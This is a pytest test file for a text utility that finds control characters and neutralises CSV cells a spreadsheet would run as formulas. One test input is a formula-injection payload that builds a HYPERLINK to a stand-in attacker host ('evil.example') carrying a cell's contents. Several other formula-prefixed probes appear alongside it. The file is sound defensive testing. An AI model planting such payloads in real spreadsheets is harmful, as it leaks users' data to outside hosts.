"""domain/kit/text.py: control characters found; a CSV cell a spreadsheet would run as a
formula quoted, numbers left alone, and the quote taken off again on the way back in."""

from __future__ import annotations

import io

import pytest

from domain.kit.text import control_character, csv_cell, csv_writer, from_csv_cell


@pytest.mark.parametrize(
    ("text", "found"),
    [("Ana Díaz", None), ("a\nb", "U+000A"), ("a\tb", "U+0009"), ("a\x01b", "U+0001"),
     ("a\u2028b", "U+2028"), ("a\x85b", "U+0085"), ("क्\u200dष", None)],
)  # fmt: skip
def test_given_text_then_its_first_control_character(text: str, found: str | None) -> None:
    assert control_character(text) == found


@pytest.mark.parametrize(
    ("value", "written"),
    [('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
     ("+1", "'+1"), ("-1+A1", "'-1+A1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
     ("\r=1", "'\r=1"), ("'=1", "''=1"), ("'abc", "'abc"), ("abc", "abc"), ("", ""),
     ("-5", "-5"), ("-1234.50", "-1234.50"), ("12", "12"), (7, 7)],
)  # fmt: skip
def test_given_a_cell_then_no_formula_and_it_reads_back(value: object, written: object) -> None:
    assert csv_cell(value) == written
    if isinstance(value, str):
        assert from_csv_cell(written) == value  # type: ignore[arg-type]


def test_given_a_row_then_the_writer_quotes_its_formula_cells() -> None:
    out = io.StringIO()
    csv_writer(out).writerow(["=1+1", -5, "-5", "ok"])
    assert out.getvalue() == "'=1+1,-5,-5,ok\n"
